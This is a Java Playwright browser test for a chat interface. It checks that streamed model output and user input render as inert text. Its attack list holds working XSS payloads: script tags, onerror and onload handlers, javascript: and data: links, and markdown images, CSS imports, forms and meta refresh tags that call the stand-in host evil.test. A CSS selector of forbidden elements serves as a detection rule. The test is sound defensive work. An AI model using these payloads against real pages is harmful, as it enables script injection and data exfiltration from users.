package nova.chat.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import nova.chat.standin.Endpoint;
import nova.chat.standin.Script;
import nova.chat.testing.Bridge;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a model, or a person, writes is text wherever the page shows it, and nothing is fetched for it. */
@Tag("browser")
class HostileBrowserTest {
    private static final List<String> ATTACKS = List.of(
            "<img src=x onerror=\"document.title='owned'\">",
            "<script>document.title='owned'</script>",
            "<svg onload=\"document.title='owned'\"></svg>",
            "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
            "<a href=\"javascript:document.title='owned'\">a</a>",
            "[b](javascript:document.title='owned')",
            "[c](data:text/html,<script>alert(1)</script>)",
            "![d](https://evil.test/?k=1)",
            "[e]: https://evil.test/e\n\n![f][e]",
            "<style>@import 'https://evil.test/';</style>",
            "<form action=https://evil.test/><input name=attributes></form>",
            "<b id=composer name=log>g</b>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
            "<base href=https://evil.test/>");

    private static final String FORBIDDEN =
            "img:not([src$='/icon.svg']), iframe, form:not([id]), style, base, object, embed, "
                    + "video, audio, link[href^='http'], meta[http-equiv], [onerror], [onload], [style], "
                    + "#log [id^='composer'], #log [name], #log script, #log b, "
                    + "a[href]:not([href^='http:']):not([href^='https:']):not([href^='mailto:']):not([href^='#'])";

    @ParameterizedTest
    @ValueSource(ints = {1, 9, 10_000})
    void nothing_of_it_runs_or_loads(int charsAtATime) {
        String all = String.join("\n\n", ATTACKS);
        Script script = Script.stream()
                .event("{\"status\":{\"step\":\"<img src=x>\",\"state\":\"running\",\"detail\":\"<img src=x>\"}}")
                .event("{\"meta\":{\"model\":\"<img src=x>\"}}")
                .event("{\"think\":\"<img src=x>\"}");
        for (int i = 0; i < all.length(); i += charsAtATime) {
            script = script.text(all.substring(i, Math.min(all.length(), i + charsAtATime)));
        }
        try (Bridge bridge = Bridge.start();
                ChatPage page = ChatPage.open(bridge)) {
            bridge.orchestrator().next(Endpoint.STREAM, script.done());
            page.ask(all).awaitText("<script>document.title='owned'</script>");
            page.page().locator("#inspector-toggle").click();
            check(page);
            page.reload().awaitOpen().awaitEnd("complete");
            check(page);
        }
    }

    private static void check(ChatPage page) {
        assertThat(page.page().locator(FORBIDDEN)).hasCount(0);
        assertThat(page.page()).not().hasTitle("owned");
        assertThat(page.page().frames()).hasSize(1);
    }
}
